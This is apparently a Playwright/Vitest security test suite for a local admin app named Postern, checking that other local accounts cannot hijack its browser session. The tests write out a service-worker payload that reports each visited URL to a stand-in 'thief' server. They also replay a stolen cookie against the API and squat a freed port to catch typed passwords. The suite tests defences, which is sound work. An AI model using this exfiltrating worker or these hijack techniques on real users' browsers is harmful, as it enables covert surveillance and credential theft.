/**
 * Another account of this computer, in the administrator's own browser: a page of another port and of another origin, the cookie that the
 * browser hands it, and a program that takes the port once the shell is gone. Nothing opens, and nothing is told.
 */
import { once } from 'node:events';
import { createServer, type IncomingMessage, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { readdir } from 'node:fs/promises';
import { join } from 'node:path';
import type { Page } from 'playwright';
import { afterEach, beforeEach, describe, expect, it, onTestFinished } from 'vitest';
import { WebSocket as Socket, WebSocketServer } from 'ws';
import { appOfFile, browserOfFile } from './file-wide.ts';
import { openPage, startApp, type RunningApp } from './start-app.ts';
import { addressAt, dropFile, invoke, makeUsers } from './users-fixture.ts';

let app: RunningApp;
let page: Page;
let origin: string;
let browser: Awaited<ReturnType<typeof browserOfFile>> | null = null;

beforeEach(async () => {
  browser ??= await browserOfFile();
  app = await appOfFile();
  ({ page } = await openPage(browser, app));
  origin = new URL(page.url()).origin;
  await makeUsers(page, app, 3);
});
afterEach(async () => {
  await page.context().close();
  await app.close();
});

/** What a page of another account leaves behind in a browser: it sees whatever is opened at its origin, and tells `thief`. */
const worker = (thief: string): string => `
  addEventListener('install', () => skipWaiting());
  addEventListener('activate', (event) => event.waitUntil(clients.claim()));
  addEventListener('fetch', (event) => event.respondWith(
    fetch('${thief}?saw=' + encodeURIComponent(event.request.url), { mode: 'no-cors' })
      .then(() => new Response('a page of the worker', { headers: { 'content-type': 'text/html' } }))));`;

/** Another account's server on a port of its own, with a script if told; gives what the browser sent it. */
async function stranger(
  port = 0,
  host = '127.0.0.1',
  script = '',
): Promise<{ server: Server; url: string; heard: IncomingMessage[] }> {
  const heard: IncomingMessage[] = [];
  const server = createServer((request, response) => {
    heard.push(request);
    request.resume();
    const type = request.url === '/worker.js' ? 'text/javascript' : 'text/html';
    response
      .writeHead(200, { 'content-type': type })
      .end(type === 'text/html' ? '<!doctype html><title>stranger</title>' : script);
  });
  server.listen(port, host);
  await once(server, 'listening');
  onTestFinished(() => {
    server.close();
    server.closeAllConnections();
  });
  return { server, url: `http://${host}:${(server.address() as AddressInfo).port}/`, heard };
}

/** Everything a page can try, with whatever its browser adds: what it got to read. */
function attempts(from: Page): Promise<readonly string[]> {
  return from.evaluate(async (shell) => {
    const got: string[] = [];
    const read = (name: string, path: string, init: RequestInit) =>
      fetch(shell + path, init)
        .then((answer) => answer.text().then((text) => got.push(`${name}: ${answer.status} ${text}`)))
        .catch(() => undefined);
    const json = { 'content-type': 'application/json' };
    const all = { credentials: 'include', method: 'POST', body: '{}' } as const;
    await read('call', '/api/app.info', { ...all, headers: json });
    await read('plain call', '/api/app.info', all);
    await read('call with a secret', '/api/app.info', {
      ...all,
      headers: { ...json, 'x-postern-page': 'x' },
    });
    await read('upload', '/upload?name=a.csv', all);
    await read('session', '/session', all);
    await read('page', '/', { credentials: 'include' });
    await read('opaque', '/api/app.info', { ...all, mode: 'no-cors' }).then(() => {
      const last = got.at(-1);
      // What is opaque can be sent, and not be read.
      if (last === 'opaque: 0 ') got.pop();
    });
    await new Promise<void>((resolve) => {
      const socket = new WebSocket(`${shell.replace('http', 'ws')}/events`);
      socket.onopen = () => socket.send('{"page":"x"}');
      socket.onmessage = ({ data }) => got.push(`events: ${String(data)}`);
      socket.onclose = () => resolve();
    });
    const frame = document.createElement('iframe');
    frame.src = `${shell}/`;
    const loaded = new Promise((resolve) => (frame.onload = resolve));
    document.body.append(frame);
    await loaded;
    try {
      const text = frame.contentDocument?.body.textContent ?? '';
      if (text !== '') got.push(`frame: ${text}`);
    } catch {
      // Another origin's.
    }
    for (const store of [localStorage, sessionStorage])
      for (const key of Object.keys(store)) got.push(`storage: ${key}`);
    return got;
  }, origin);
}

const nothingHappened = async () => {
  expect((await invoke(page, 'sets.info', {})).users).toBe(3);
  const uploads = join(app.folder, 'config', 'uploads');
  const kept = await readdir(uploads, { recursive: true }).catch(() => []);
  expect(kept.filter((name) => name.includes('/'))).toEqual([]);
};

describe('A page of another port in the same browser', () => {
  it('reads nothing, and the cookie that it is sent opens nothing', async () => {
    // Everybody on the computer can see at which address the shell listens.
    const other = await stranger(0, new URL(origin).hostname);
    const foreign = await page.context().newPage();
    await foreign.goto(other.url);
    // The browser hands it over: cookies know no ports.
    const { cookie = '' } = other.heard[0]!.headers;
    expect(cookie).toContain('postern-');
    expect(await attempts(foreign)).toEqual([]);

    const headers = { cookie, origin, 'content-type': 'application/json' };
    for (const path of ['/api/app.info', '/api/users.query', '/upload?name=a.csv', '/session']) {
      const answer = await fetch(origin + path, { method: 'POST', headers, body: '{}' });
      expect([path, answer.status]).toEqual([path, 401]);
    }
    const socket = new Socket(`${origin.replace('http', 'ws')}/events`, { headers });
    const heard: string[] = [];
    socket.on('message', (data: Buffer) => heard.push(data.toString()));
    await once(socket, 'open');
    // Nor does it hear of a change of the set.
    const { users } = await invoke(page, 'users.query', { query: {}, offset: 0, limit: 1 });
    await invoke(page, 'users.edit', {
      selection: { by: 'ids', ids: [users[0]!.id] },
      settings: { limitPerDay: 5 },
    });
    const closed = once(socket, 'close');
    socket.send('{}');
    expect((await closed)[0]).toBe(4401);
    expect(heard).toEqual([]);
    await nothingHappened();
  });

  it('of another host name, too', async () => {
    const other = await stranger();
    const foreign = await page.context().newPage();
    await foreign.goto(other.url.replace('127.0.0.1', 'localhost'));
    expect(other.heard[0]!.headers.cookie).toBeUndefined();
    expect(await attempts(foreign)).toEqual([]);
    await nothingHappened();
  });
});

describe('A service worker of another account, left behind in the browser where the shell’s port is the same each time', () => {
  it('sees neither the link nor a call', async () => {
    const thief = await stranger();
    const planted = await stranger(0, '127.0.0.1', worker(thief.url));
    const context = await browser!.newContext();
    const victim = await context.newPage();
    await victim.goto(planted.url);
    await victim.evaluate(() => navigator.serviceWorker.register('/worker.js'));
    await victim.evaluate(() => navigator.serviceWorker.ready.then(() => undefined));
    planted.server.closeAllConnections();
    await new Promise((resolve) => planted.server.close(resolve));

    const fixed = await startApp({ port: Number(new URL(planted.url).port) });
    try {
      await victim.goto(fixed.url);
      await victim.getByRole('heading', { name: 'Postern' }).first().waitFor();
      await victim.reload();
      await victim.getByRole('heading', { name: 'Postern' }).first().waitFor();
      expect(thief.heard.map(({ url }) => url)).toEqual([]);
      // It was there all the while, for whoever goes where it lies.
      await victim.goto(planted.url);
      expect(await victim.content()).toContain('a page of the worker');
      expect(thief.heard.map(({ url }) => url)).toContain(`/?saw=${encodeURIComponent(planted.url)}`);
      expect(thief.heard.map(({ url }) => url).join()).not.toMatch(/token|ticket/);
    } finally {
      await context.close();
      await fixed.close();
    }
  });
});

describe('The window itself', () => {
  it('goes on after a reload, in a second tab, and with a file that is dropped', async () => {
    expect(page.url()).toBe(`${origin}/#/users`);
    await page.reload();
    await page.getByText(addressAt(0)).first().waitFor();
    const second = await page.context().newPage();
    await second.goto(`${origin}/`);
    await second.getByText(addressAt(0)).first().waitFor();
    await dropFile(second, 'more.csv', 'anna,delta.example,Secret-1\n');
    await second.getByRole('dialog').getByText('more.csv').waitFor();
    await second.keyboard.press('Enter');
    await second.getByRole('dialog').getByText('Imported more.csv').waitFor();
    // Both hear of it.
    await page.getByRole('button', { name: /^delta.example/ }).waitFor();
    expect((await invoke(page, 'sets.info', {})).users).toBe(4);
  });

  it('says that it needs a new link where its secret is gone, and asks for nothing more', async () => {
    await page.evaluate(() => localStorage.clear());
    await page.reload();
    await page.getByText('This link is no longer valid').first().waitFor();
    expect(await page.getByText(addressAt(0)).count()).toBe(0);
  });
});

describe('A program that takes the port of a shell that is gone', () => {
  it('is told nothing by the window that is still open', async () => {
    await app.close();
    await page.getByText('Postern does not answer').first().waitFor();
    const taken = await stranger(Number(new URL(origin).port), new URL(origin).hostname);
    const sockets = new WebSocketServer({ server: taken.server });
    const said: string[] = [];
    const answered = new Promise<void>((resolve) => {
      sockets.on('connection', (socket) => {
        socket.on('close', () => resolve());
        socket.on('message', (data: Buffer) => {
          said.push(data.toString());
          socket.send(JSON.stringify({ shell: 'a guess' }));
          socket.send(JSON.stringify({ event: 'set', payload: null }));
        });
      });
    });
    await answered;
    await page.getByText('This window’s session is over').waitFor();
    await page.keyboard.press('Alt+n');
    await page.getByRole('dialog').getByLabel('Username', { exact: true }).fill('carl');
    await page.getByRole('dialog').getByLabel('Domain', { exact: true }).fill('alpha.example');
    await page.getByRole('dialog').getByLabel('Password', { exact: true }).fill('Canary-Secret');
    await page.getByRole('dialog').getByRole('button', { name: 'Save', exact: true }).click();
    await page.getByRole('dialog').getByText('This link is no longer valid').first().waitFor();
    expect(taken.heard.filter(({ url }) => url !== '/session')).toEqual([]);
    expect(said.join()).not.toContain('Canary');
  });
});
